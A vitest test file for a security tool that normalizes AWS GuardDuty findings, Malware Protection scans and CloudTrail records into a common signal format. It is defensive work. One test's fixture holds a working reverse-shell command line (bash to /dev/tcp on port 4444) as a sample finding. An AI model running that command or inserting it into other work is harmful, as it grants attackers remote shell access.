import { describe, expect, it } from 'vitest';
import { InputError } from '../../src/core/errors.js';
import { at } from '../../src/core/json.js';
import { parseTimestamp } from '../../src/core/time.js';
import { readInput } from '../../src/intake/reader.js';
import type { OkItem } from '../../src/model/item.js';
import { normalize } from '../../src/model/normalize.js';
import type { Signal } from '../../src/model/signal.js';
import { fixture } from '../fixtures/intake/load.js';

type Json = Record<string, unknown>;

const base = fixture('finding-instance-ssh-bruteforce.json');
const baseService = base.service as Json;

/** The base finding with some parts replaced; `service` is merged one level deep. */
function finding(changes: Json = {}, service: Json = {}): Json {
  return { ...base, ...changes, service: { ...baseService, ...service } };
}

function item(doc: Json, kind: OkItem['kind'] = 'guardduty-finding', envelope?: OkItem['envelope']): OkItem {
  return { status: 'ok', kind, origin: { file: 't', index: 0, wrapper: 'finding' }, doc, ...(envelope ? { envelope } : {}) };
}

function signalOf(value: unknown): Signal {
  const [first, ...rest] = readInput(JSON.stringify(value), 't.json');
  if (!first || first.status !== 'ok' || rest.length > 0) throw new Error(`expected one ok item, got ${JSON.stringify(first)}`);
  return normalize(first);
}

function withAction(action: Json, resource?: Json): Signal {
  return normalize(item(finding(resource ? { resource } : {}, { action })));
}

describe('normalize: a whole GuardDuty finding', () => {
  it('maps every field of the base finding', () => {
    const signal = normalize(item(base));
    expect({ ...signal, doc: undefined }).toEqual({
      source: 'guardduty',
      id: '4ac6f1e2b3d94c5f8a7e6d5c4b3a2918',
      type: 'UnauthorizedAccess:EC2/SSHBruteForce',
      title: '198.51.100.23 is performing SSH brute force attacks against i-0a1b2c3d4e5f60718.',
      description: base.description,
      accountId: '111122223333',
      region: 'eu-west-1',
      partition: 'aws',
      arn: base.arn,
      detectorId: '12c4a8e6f0b2d4a6c8e0f2a4b6c8d0e2',
      severity: 2,
      severityLabel: 'Low',
      firstSeen: '2025-06-10T07:58:12.000Z',
      lastSeen: '2025-06-10T08:41:55.000Z',
      createdAt: '2025-06-10T08:05:31.118Z',
      updatedAt: '2025-06-10T08:47:02.540Z',
      count: 14,
      sample: false,
      archived: false,
      resource: {
        type: 'Instance',
        id: 'i-0a1b2c3d4e5f60718',
        detail: 't3.medium · running',
        tags: { Name: 'bastion-eu-1', team: 'platform' },
      },
      actor: undefined,
      remotes: [
        {
          ip: '198.51.100.23',
          port: 22, // inbound: the attacked service port, not the attacker's ephemeral one
          protocol: 'TCP',
          country: 'Netherlands',
          city: 'Amsterdam',
          asn: '64500',
          asnOrg: 'EXAMPLE-HOSTING',
          isp: 'Example Hosting BV',
        },
      ],
      action: 'NETWORK_CONNECTION',
      process: undefined,
      doc: undefined,
    });
    expect(signal.doc).toBe(base);
  });

  it('gives the PascalCase GetFindings form the same signal fields as camelCase', () => {
    const signal = signalOf(fixture('getfindings-accesskey-pascal.json'));
    expect(signal.actor).toEqual({ type: 'IAMUser', userName: 'deploy-bot', principalId: 'AIDACKCEVSQ6C2EXAMPLE', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' });
    expect(signal.resource).toEqual({ type: 'AccessKey', id: 'AKIAIOSFODNN7EXAMPLE', detail: 'IAMUser · deploy-bot' });
    expect(signal.api).toBe('ListAttachedUserPolicies');
    expect(signal.serviceName).toBe('iam.amazonaws.com');
    expect(signal.remotes).toEqual([
      {
        ip: '203.0.113.150',
        country: 'Germany',
        city: 'Frankfurt am Main',
        asn: '64501',
        asnOrg: 'EXAMPLE-TRANSIT',
        isp: 'Example Transit GmbH',
        userAgent: 'aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off command/iam.list-attached-user-policies',
      },
    ]);
    expect(signal.archived).toBe(false);
    expect(signal.severityLabel).toBe('Medium');
  });

  it('takes the member account from the finding, not the EventBridge administrator account', () => {
    const signal = normalize(item(base, 'guardduty-finding', { account: '999988887777', region: 'us-east-1' }));
    expect(signal.accountId).toBe('111122223333');
    expect(signal.region).toBe('eu-west-1');
  });

  it('falls back to the finding ARN, then the envelope, for account and region', () => {
    const { accountId: _a, region: _r, ...bareIds } = base;
    expect(normalize(item(bareIds)).accountId).toBe('111122223333');
    expect(normalize(item(bareIds)).region).toBe('eu-west-1');
    const { arn: _arn, ...nothing } = bareIds;
    const signal = normalize(item(nothing, 'guardduty-finding', { account: '999988887777', region: 'us-east-1' }));
    expect([signal.accountId, signal.region]).toEqual(['999988887777', 'us-east-1']);
  });

  it('throws InputError for a document without id or type', () => {
    const { type: _t, ...noType } = base;
    expect(() => normalize(item(noType))).toThrow(InputError);
  });
});

describe('normalize: severity bands', () => {
  const cases: [number | string, string][] = [
    [1.0, 'Low'], [3.9, 'Low'], [4.0, 'Medium'], [6.9, 'Medium'], [7.0, 'High'], [8.9, 'High'], [9.0, 'Critical'], [10, 'Critical'],
    ['5.5', 'Medium'], ['HIGH', 'High'], [0, 'Informational'],
  ];
  it.each(cases)('severity %s is %s', (severity, label) => {
    expect(normalize(item(finding({ severity }))).severityLabel).toBe(label);
  });

  it('keeps the numeric severity of a float and treats a missing one as 0', () => {
    expect(normalize(item(finding({ severity: 8.9 }))).severity).toBe(8.9);
    const { severity: _s, ...none } = base;
    expect(normalize(item(none)).severity).toBe(0);
  });
});

describe('normalize: tolerance of missing and odd parts', () => {
  it('tolerates a missing resource', () => {
    const { resource: _r, ...noResource } = base;
    expect(normalize(item(noResource)).resource).toEqual({ type: 'Unknown' });
  });

  it('tolerates an AccessKey resource without accessKeyDetails', () => {
    const signal = normalize(item(finding({ resource: { resourceType: 'AccessKey' } })));
    expect(signal.resource).toEqual({ type: 'AccessKey' });
    expect(signal.actor).toBeUndefined();
  });

  it('tolerates null user details', () => {
    const resource = { resourceType: 'EKSCluster', accessKeyDetails: null, kubernetesDetails: { kubernetesUserDetails: null } };
    expect(normalize(item(finding({ resource }))).actor).toBeUndefined();
  });

  it('tolerates a missing remote IP and an empty action', () => {
    const noIp = withAction({ actionType: 'NETWORK_CONNECTION', networkConnectionAction: { protocol: 'TCP', remoteIpDetails: {} } });
    expect(noIp.remotes).toEqual([]);
    expect(withAction({}).remotes).toEqual([]);
    expect(withAction({}).action).toBeUndefined();
    expect(normalize(item(finding({}, { action: null }))).remotes).toEqual([]);
  });

  it('keeps a malformed or unknown type verbatim', () => {
    expect(normalize(item(finding({ type: 'Recon:EC2 PortProbeUnprotectedPort' }))).type).toBe('Recon:EC2 PortProbeUnprotectedPort');
    expect(normalize(item(finding({ type: 'Novel:Thing/NotInCatalogue' }))).type).toBe('Novel:Thing/NotInCatalogue');
  });

  it('reads archived as a boolean or as the strings "true" and "false"', () => {
    expect(normalize(item(finding({}, { archived: true }))).archived).toBe(true);
    expect(normalize(item(finding({}, { archived: 'true' }))).archived).toBe(true);
    expect(normalize(item(finding({}, { archived: 'false' }))).archived).toBe(false);
    expect(normalize(item(finding({}, { archived: undefined }))).archived).toBe(false);
  });

  it('detects AWS sample findings in both forms', () => {
    expect(normalize(item(finding({}, { additionalInfo: { sample: true } }))).sample).toBe(true);
    expect(normalize(item(finding({}, { additionalInfo: { value: '{"sample":true}', type: 'default' } }))).sample).toBe(true);
    expect(normalize(item(finding({}, { additionalInfo: { value: '{"sample":false}' } }))).sample).toBe(false);
    expect(normalize(item(finding({}, { additionalInfo: { value: '{not json, sample' } }))).sample).toBe(false);
    expect(normalize(item(base)).sample).toBe(false);
  });

  it('counts at least one occurrence', () => {
    expect(normalize(item(finding({}, { count: 0 }))).count).toBe(1);
    expect(normalize(item(finding({}, { count: '7' }))).count).toBe(7);
  });
});

describe('normalize: action types', () => {
  const remote = { ipAddressV4: '203.0.113.9', country: { countryName: 'Brazil' }, organization: { asn: '-1', asnOrg: 'Unknown' } };

  it('reads an API call with a domain caller', () => {
    const signal = withAction({
      actionType: 'AWS_API_CALL',
      awsApiCallAction: { api: 'PutRolePolicy', serviceName: 'iam.amazonaws.com', callerType: 'Domain', domainDetails: { domain: 'cloudformation.amazonaws.com' } },
    });
    expect([signal.action, signal.api, signal.serviceName]).toEqual(['AWS_API_CALL', 'PutRolePolicy', 'iam.amazonaws.com']);
    expect(signal.remotes).toEqual([{ domain: 'cloudformation.amazonaws.com' }]);
  });

  it('reads every probe of a port probe and drops the "-1" ASN', () => {
    const probe = (ip: string, port: number) => ({ localPortDetails: { port, portName: 'X' }, remoteIpDetails: { ...remote, ipAddressV4: ip } });
    const signal = withAction({
      actionType: 'PORT_PROBE',
      portProbeAction: { blocked: false, portProbeDetails: [probe('203.0.113.9', 22), probe('198.51.100.4', 3389), { localPortDetails: { port: 80 } }] },
    });
    expect(signal.remotes).toEqual([
      { ip: '203.0.113.9', port: 22, country: 'Brazil', asnOrg: 'Unknown' },
      { ip: '198.51.100.4', port: 3389, country: 'Brazil', asnOrg: 'Unknown' },
    ]);
  });

  it('reads a DNS request with its domain', () => {
    const signal = withAction({ actionType: 'DNS_REQUEST', dnsRequestAction: { domain: 'pool.minexmr.example', protocol: 'UDP', blocked: false } });
    expect(signal.remotes).toEqual([{ domain: 'pool.minexmr.example', protocol: 'UDP' }]);
  });

  it('reads an RDS login attempt with the database user as actor', () => {
    const resource = {
      resourceType: 'RDSDBInstance',
      rdsDbInstanceDetails: { dbInstanceIdentifier: 'orders-db-1', engine: 'aurora-postgresql', engineVersion: '15.4' },
      rdsDbUserDetails: { user: 'postgres', application: 'psql', database: 'orders', ssl: 'true', authMethod: 'PASSWORD' },
    };
    const signal = withAction({ actionType: 'RDS_LOGIN_ATTEMPT', rdsLoginAttemptAction: { remoteIpDetails: remote, loginAttributes: [{ user: 'postgres', failedLoginAttempts: 41 }] } }, resource);
    expect(signal.resource).toEqual({ type: 'RDSDBInstance', id: 'orders-db-1', detail: 'aurora-postgresql · 15.4' });
    expect(signal.actor).toEqual({ type: 'DatabaseUser', userName: 'postgres' });
    expect(signal.remotes).toEqual([{ ip: '203.0.113.9', country: 'Brazil', asnOrg: 'Unknown' }]);
  });

  it('reads IPv6 remote addresses', () => {
    const signal = withAction({ actionType: 'NETWORK_CONNECTION', networkConnectionAction: { protocol: 'TCP', remoteIpDetails: { ipAddressV6: '2001:db8:4f::17' } } });
    expect(signal.remotes).toEqual([{ ip: '2001:db8:4f::17', protocol: 'TCP' }]);
  });

  it('reads a runtime process with its command line and user', () => {
    const signal = normalize(item(finding({}, {
      runtimeDetails: {
        process: { name: 'bash', executablePath: '/usr/bin/bash', pid: 3121, user: 'www-data', userId: 33 },
        context: { commandLineExample: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' },
      },
    })));
    expect(signal.process).toEqual({ name: 'bash', executablePath: '/usr/bin/bash', commandLine: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', pid: 3121, user: 'www-data' });
    expect(signal.actor).toEqual({ type: 'OSUser', userName: 'www-data' });
  });
});

describe('normalize: resource types', () => {
  const cases: [string, Json, Json][] = [
    ['S3Bucket', { s3BucketDetails: [{ name: 'acme-logs', type: 'Destination', tags: [{ key: 'env', value: 'prod' }] }, { name: 'acme-archive' }] },
      { id: 'acme-logs', detail: 'Destination · and 1 more', tags: { env: 'prod' } }],
    ['EKSCluster', { eksClusterDetails: { name: 'prod-eks', arn: 'arn:aws:eks:eu-west-1:111122223333:cluster/prod-eks' }, kubernetesDetails: { kubernetesWorkloadDetails: { namespace: 'payments', name: 'api-7d9f' } } },
      { id: 'prod-eks', detail: 'payments · api-7d9f' }],
    ['ECSCluster', { ecsClusterDetails: { name: 'batch', taskDetails: { definitionArn: 'arn:aws:ecs:eu-west-1:111122223333:task-definition/etl:12' } } },
      { id: 'batch', detail: 'arn:aws:ecs:eu-west-1:111122223333:task-definition/etl:12' }],
    ['Container', { containerDetails: { id: 'c0ffee', name: 'web', image: 'nginx:1.25' } }, { id: 'web', detail: 'nginx:1.25' }],
    ['Lambda', { lambdaDetails: { functionName: 'resize-images', runtime: 'nodejs20.x', role: 'arn:aws:iam::111122223333:role/resize' } },
      { id: 'resize-images', detail: 'nodejs20.x · arn:aws:iam::111122223333:role/resize' }],
    ['SomethingNew', { somethingNewDetails: { arn: 'arn:aws:new:::x' } }, { id: 'arn:aws:new:::x' }],
  ];
  it.each(cases)('reads a %s resource', (resourceType, parts, expected) => {
    expect(normalize(item(finding({ resource: { resourceType, ...parts } }))).resource).toEqual({ type: resourceType, ...expected });
  });

  it('reads a Kubernetes user as the actor', () => {
    const resource = { resourceType: 'EKSCluster', kubernetesDetails: { kubernetesUserDetails: { username: 'system:anonymous', uid: '', groups: ['system:unauthenticated'] } } };
    expect(normalize(item(finding({ resource }))).actor).toEqual({ type: 'Kubernetes', userName: 'system:anonymous', groups: ['system:unauthenticated'] });
  });

  it('reads an assumed-role access key with its session', () => {
    const resource = { resourceType: 'AccessKey', accessKeyDetails: { accessKeyId: 'ASIAEXAMPLETEMPKEY02', principalId: 'AROAEXAMPLEROLEID5678:i-0a1b2c3d4e5f60718', userName: 'web-instance-role', userType: 'AssumedRole' } };
    expect(normalize(item(finding({ resource }))).actor).toEqual({
      type: 'AssumedRole', userName: 'web-instance-role', principalId: 'AROAEXAMPLEROLEID5678:i-0a1b2c3d4e5f60718',
      accessKeyId: 'ASIAEXAMPLETEMPKEY02', roleName: 'web-instance-role', sessionName: 'i-0a1b2c3d4e5f60718',
    });
  });
});

describe('normalize: Malware Protection scan results', () => {
  it('makes a High signal about the scanned object, owned by the envelope account', () => {
    const [scanItem] = readInput(JSON.stringify(fixture('scan-result-threats-found.json')), 's.json');
    if (scanItem?.status !== 'ok') throw new Error('scan fixture did not read');
    const signal = normalize(scanItem);
    expect(signal).toMatchObject({
      source: 'malware-scan',
      type: 'Object:S3/MaliciousFile',
      title: 'Malware found in S3 object: Win32.Trojan.Agent, EICAR-Test-File (not a virus)',
      accountId: '111122223333',
      region: 'eu-west-1',
      severity: 8,
      severityLabel: 'High',
      updatedAt: '2025-06-11T16:20:05.000Z',
      resource: { type: 'S3Object', id: 'acme-customer-uploads/incoming/2025/06/invoice-4471.pdf.exe', detail: 'version 3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY' },
    });
    expect(signal.id).toMatch(/^scan-[0-9a-f]{32}$/);
  });
});

describe('normalize: CloudTrail records', () => {
  const records = fixture('cloudtrail-log-stoplogging.json').Records as Json[];

  it('maps a StopLogging call by an assumed role', () => {
    const signal = normalize(item(records[1] as Json, 'cloudtrail'));
    expect({ ...signal, doc: undefined }).toEqual({
      source: 'cloudtrail',
      id: '3b9d5f1a-7c2e-4a8b-b6d0-4e2a8c6f0b93',
      type: 'cloudtrail.amazonaws.com:StopLogging',
      title: 'StopLogging (cloudtrail.amazonaws.com)',
      accountId: '111122223333',
      region: 'eu-west-1',
      partition: 'aws',
      severity: 0,
      severityLabel: 'Informational',
      firstSeen: '2025-06-12T09:04:02.000Z',
      lastSeen: '2025-06-12T09:04:02.000Z',
      updatedAt: '2025-06-12T09:04:02.000Z',
      count: 1,
      sample: false,
      archived: false,
      resource: { type: 'CloudTrailTrail', id: 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-audit', detail: 'cloudtrail' },
      actor: {
        type: 'AssumedRole', userName: 'OpsAdmin', principalId: 'AROAEXAMPLEROLEID1234:jdoe', arn: 'arn:aws:sts::111122223333:assumed-role/OpsAdmin/jdoe',
        accessKeyId: 'ASIAEXAMPLETEMPKEY01', accountId: '111122223333', roleName: 'OpsAdmin', sessionName: 'jdoe',
      },
      remotes: [{ ip: '198.51.100.61', userAgent: 'aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off command/cloudtrail.stop-logging' }],
      action: 'StopLogging',
      api: 'StopLogging',
      serviceName: 'cloudtrail.amazonaws.com',
      doc: undefined,
    });
  });

  it('names a service caller as a domain and reads the bucket as the resource', () => {
    const signal = normalize(item(records[2] as Json, 'cloudtrail'));
    expect(signal.remotes).toEqual([{ domain: 'config.amazonaws.com', userAgent: 'config.amazonaws.com' }]);
    expect(signal.resource).toEqual({ type: 'S3Bucket', id: 'acme-cloudtrail-logs', detail: 's3' });
  });

  it('throws InputError for a record without eventName', () => {
    expect(() => normalize(item({ eventSource: 's3.amazonaws.com' }, 'cloudtrail'))).toThrow(InputError);
  });
});

describe('parseTimestamp', () => {
  const cases: [unknown, string | undefined][] = [
    ['2025-06-10T08:47:02.540Z', '2025-06-10T08:47:02.540Z'],
    ['2025-06-10T08:47:02Z', '2025-06-10T08:47:02.000Z'],
    [1749545222, '2025-06-10T08:47:02.000Z'],
    ['1749545222', '2025-06-10T08:47:02.000Z'],
    [1749545222540, '2025-06-10T08:47:02.540Z'],
    ['2025-02-25 20:40:06.765', '2025-02-25T20:40:06.765Z'],
    ['2025-02-25 20:40:06.000000000', '2025-02-25T20:40:06.000Z'],
    ['2025-02-25T20:40:06.123456789Z', '2025-02-25T20:40:06.123Z'],
    ['2025-06-10T14:17:02+05:30', '2025-06-10T08:47:02.000Z'],
    ['2025-06-10 14:17:02.5+05:30', '2025-06-10T08:47:02.500Z'],
    ['', undefined],
    ['not a time', undefined],
    [null, undefined],
    [{}, undefined],
    [Number.NaN, undefined],
    [-5, undefined],
  ];
  it.each(cases)('%j → %s', (input, expected) => {
    expect(parseTimestamp(input)).toBe(expected);
  });
});

describe('fix: dotted paths step into arrays', () => {
  it('takes the Kubernetes caller IP from sourceIps when there are no remoteIpDetails', () => {
    const signal = withAction({
      actionType: 'KUBERNETES_API_CALL',
      kubernetesApiCallAction: { requestUri: '/api/v1/namespaces/kube-system/secrets', verb: 'list', sourceIps: ['203.0.113.44'], userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625', statusCode: 200 },
    });
    expect(signal.remotes).toEqual([{ ip: '203.0.113.44', userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625' }]);
    expect(signal.api).toBe('list · /api/v1/namespaces/kube-system/secrets');
  });

  it('reads the instance of a CloudTrail call from instancesSet.items', () => {
    const records = fixture('cloudtrail-log-stoplogging.json').Records as Json[];
    expect(normalize(item(records[0] as Json, 'cloudtrail')).resource).toEqual({ type: 'Instance', id: 'i-0a1b2c3d4e5f60718', detail: 'ec2' });
  });

  it('reads the first entry of a CloudTrail resources list when no parameter names one', () => {
    const record = { eventName: 'PutObject', eventSource: 's3.amazonaws.com', eventTime: '2025-06-12T09:05:40Z', resources: [{ type: 'AWS::S3::Object', ARN: 'arn:aws:s3:::acme-data/k' }] };
    expect(normalize(item(record, 'cloudtrail')).resource).toEqual({ type: 'AWS::S3::Object', id: 'arn:aws:s3:::acme-data/k', detail: 's3' });
  });

  it('follows own keys only', () => {
    expect(at({}, 'constructor')).toBeUndefined();
    expect(at({ a: [{ b: 'x' }] }, 'a.0.b')).toBe('x');
    expect(at({ a: [{ b: 'x' }] }, 'a.1.b')).toBeUndefined();
    expect(at({ a: { 0: 'key' } }, 'a.0')).toBe('key');
  });
});

describe('fix: parseTimestamp refuses to guess', () => {
  const cases: [unknown, string | undefined][] = [
    ['hello 2', undefined],
    ['March 7', undefined],
    ['Recon 5', undefined],
    ['abc 2024', undefined],
    ['12', undefined],
    [2024, undefined],
    ['2024-02-30 10:00:00', undefined],
    ['2025-02-29T10:00:00Z', undefined],
    ['2024-02-29T10:00:00Z', '2024-02-29T10:00:00.000Z'],
    ['2025-06-10T25:00:00Z', undefined],
    ['2025-06-10', '2025-06-10T00:00:00.000Z'],
    ['2025-06-10 14:17:02+0530', '2025-06-10T08:47:02.000Z'],
    ['2025-06-10T04:47:02-04:00', '2025-06-10T08:47:02.000Z'],
    ['Tue, 10 Jun 2025 08:47:02 GMT', '2025-06-10T08:47:02.000Z'],
    [1749545222540123, '2025-06-10T08:47:02.540Z'],
    [1749545222540123456, '2025-06-10T08:47:02.540Z'],
    ['1749545222.54', '2025-06-10T08:47:02.540Z'],
  ];
  it.each(cases)('%j → %s', (input, expected) => {
    expect(parseTimestamp(input)).toBe(expected);
  });
});

describe('fix: resource types that name Object.prototype members', () => {
  it.each(['constructor', 'toString', '__proto__', 'hasOwnProperty'])('reads resourceType %s like any unknown type', (resourceType) => {
    const resource = { resourceType, somethingDetails: { name: 'x-1' }, extra: 'not copied' };
    expect(normalize(item(finding({ resource }))).resource).toEqual({ type: resourceType, id: 'x-1' });
  });
});

describe('fix: attack sequences take resource, actor and remotes from the sequence', () => {
  it('reads the first resource, the first actor and every endpoint', () => {
    const signal = normalize(item(fixture('finding-attack-sequence-iam.json')));
    expect(signal.severityLabel).toBe('Critical');
    expect(signal.resource).toEqual({ type: 'AttackSequence', id: 'deploy-bot', detail: '3 signals · 2 resources' });
    expect(signal.actor).toEqual({ type: 'IAMUser', userName: 'deploy-bot', principalId: 'AIDACKCEVSQ6C2EXAMPLE', accessKeyId: 'AKIAIOSFODNN7EXAMPLE', accountId: '444455556666' });
    expect(signal.remotes).toEqual([
      { ip: '203.0.113.150', country: 'Germany', city: 'Frankfurt am Main', asn: '64501', asnOrg: 'EXAMPLE-TRANSIT' },
      { ip: '2001:db8:77::5', country: 'Unknown' },
    ]);
  });

  it('tolerates an attack sequence without its sequence, as AWS sample findings are', () => {
    const signal = normalize(item(finding({ type: 'AttackSequence:S3/CompromisedData', resource: { resourceType: 'AttackSequence' } }, { action: undefined })));
    expect(signal.resource).toEqual({ type: 'AttackSequence' });
    expect(signal.actor).toBeUndefined();
    expect(signal.remotes).toEqual([]);
  });
});

describe('fix: CloudTrail source addresses', () => {
  const record = (sourceIPAddress: string) => ({ eventName: 'GetObject', eventSource: 's3.amazonaws.com', eventTime: '2025-06-12T09:05:40Z', sourceIPAddress });
  it.each([
    ['198.51.100.61', { ip: '198.51.100.61' }],
    ['2001:db8::1', { ip: '2001:db8::1' }],
    ['dead.beef', { domain: 'dead.beef' }],
    ['cafe', { domain: 'cafe' }],
    ['AWS Internal', { domain: 'AWS Internal' }],
    ['athena.amazonaws.com', { domain: 'athena.amazonaws.com' }],
  ])('reads %s', (source, expected) => {
    expect(normalize(item(record(source), 'cloudtrail')).remotes).toEqual([expected]);
  });
});

describe('fix: CloudTrail Insights events', () => {
  it('names the API the insight is about and keeps the insight in the title', () => {
    const signal = normalize(item(fixture('cloudtrail-insight-error-rate.json'), 'cloudtrail'));
    expect([signal.id, signal.type, signal.title, signal.accountId, signal.region, signal.updatedAt]).toEqual([
      '4e6a8c0e-2b4d-4f6a-8c0e-2b4d6f8a0c1e', 'iam.amazonaws.com:GetUser', 'ApiErrorRateInsight Start: GetUser (iam.amazonaws.com)',
      '111122223333', 'eu-west-1', '2025-06-12T10:15:00.000Z',
    ]);
    expect(signal.actor).toBeUndefined();
    expect(signal.remotes).toEqual([]);
  });
});

describe('fix: partitions other than aws', () => {
  const govRecord = {
    eventName: 'StopLogging', eventSource: 'cloudtrail.amazonaws.com', eventTime: '2025-06-12T09:04:02Z', awsRegion: 'us-gov-west-1',
    userIdentity: { type: 'IAMUser', arn: 'arn:aws-us-gov:iam::111122223333:user/ops', userName: 'ops' },
  };

  it('takes a CloudTrail record\'s partition from its ARNs, else from its region', () => {
    expect(normalize(item(govRecord, 'cloudtrail')).partition).toBe('aws-us-gov');
    expect(normalize(item({ ...govRecord, userIdentity: {}, awsRegion: 'cn-north-1' }, 'cloudtrail')).partition).toBe('aws-cn');
    expect(normalize(item({ ...govRecord, userIdentity: {}, awsRegion: 'eu-west-1' }, 'cloudtrail')).partition).toBe('aws');
  });

  it('takes a GuardDuty finding\'s partition from the finding, else its ARN', () => {
    const { partition: _p, ...unstated } = base;
    expect(normalize(item({ ...unstated, arn: String(base.arn).replace('arn:aws:', 'arn:aws-cn:'), region: 'cn-northwest-1' })).partition).toBe('aws-cn');
    expect(normalize(item(finding({ partition: 'aws-us-gov' }))).partition).toBe('aws-us-gov');
  });

  it('places a scan result by its envelope region', () => {
    const doc = (fixture('scan-result-threats-found.json').detail ?? {}) as Json;
    expect(normalize(item(doc, 'malware-scan', { account: '111122223333', region: 'us-gov-east-1' })).partition).toBe('aws-us-gov');
  });
});

describe('fix: severities outside 0-10', () => {
  it('treats an out-of-range severity as missing instead of printing it', () => {
    for (const severity of [1e308, -5, 11]) {
      const signal = normalize({ status: 'ok', kind: 'guardduty-finding', origin: { file: 't', index: 0, wrapper: 'finding' }, doc: { id: 'a1', type: 'Recon:EC2/Portscan', severity } });
      expect([signal.severity, signal.severityLabel]).toEqual([0, 'Informational']);
    }
  });
});

describe('fix: snapshot, image and recovery-point resources keep their identifier', () => {
  const item = (resource: Record<string, unknown>) => ({ status: 'ok' as const, kind: 'guardduty-finding' as const, origin: { file: 't', index: 0, wrapper: 'finding' as const }, doc: { id: 'r1', type: 'Execution:EC2/MaliciousFile!Snapshot', resource } });

  it.each([
    [{ resourceType: 'EBSSnapshot', ebsSnapshotDetails: { snapshotArn: 'arn:aws:ec2:us-east-1:111122223333:snapshot/snap-0abc' } }, 'arn:aws:ec2:us-east-1:111122223333:snapshot/snap-0abc'],
    [{ resourceType: 'EC2Image', ec2ImageDetails: { imageArn: 'arn:aws:ec2:us-east-1::image/ami-0abc' } }, 'arn:aws:ec2:us-east-1::image/ami-0abc'],
    [{ resourceType: 'RecoveryPoint', recoveryPointDetails: { recoveryPointArn: 'arn:aws:backup:us-east-1:111122223333:recovery-point:rp-1', backupVaultName: 'vault' } }, 'arn:aws:backup:us-east-1:111122223333:recovery-point:rp-1'],
    [{ resourceType: 'FutureThing', futureThingDetails: { widgetIdentifier: 'w-42' } }, 'w-42'],
  ])('reads the id of %o', (resource, id) => {
    expect(normalize(item(resource)).resource.id).toBe(id);
  });
});
